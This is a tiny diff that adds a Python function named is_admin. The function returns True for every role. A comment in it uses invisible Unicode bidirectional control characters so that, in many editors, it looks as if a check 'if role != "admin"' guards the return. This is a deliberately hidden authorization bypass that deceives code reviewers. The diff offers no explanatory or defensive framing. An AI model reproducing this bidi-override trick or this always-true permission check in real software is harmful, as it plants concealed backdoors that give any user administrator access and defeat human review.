@@ -1,0 +1,3 @@
+def is_admin(role):
+    # ‮ } ⁦if role != "admin":⁩ ⁦ # begin admin block
+    return True
